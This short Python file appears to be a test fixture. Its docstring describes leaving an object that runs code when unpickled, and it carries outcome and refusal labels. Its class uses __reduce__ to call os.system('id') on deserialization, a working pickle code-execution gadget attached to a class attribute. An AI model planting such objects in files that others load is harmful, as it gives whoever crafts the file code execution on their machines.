"""Leave an object that runs code when unpickled.

outcome: ran
stopped by: principle
refused: unsupported
"""

import os


class R:
    def __reduce__(self):
        return os.system, ("id",)


class Box:
    grad = R()


x = Box()
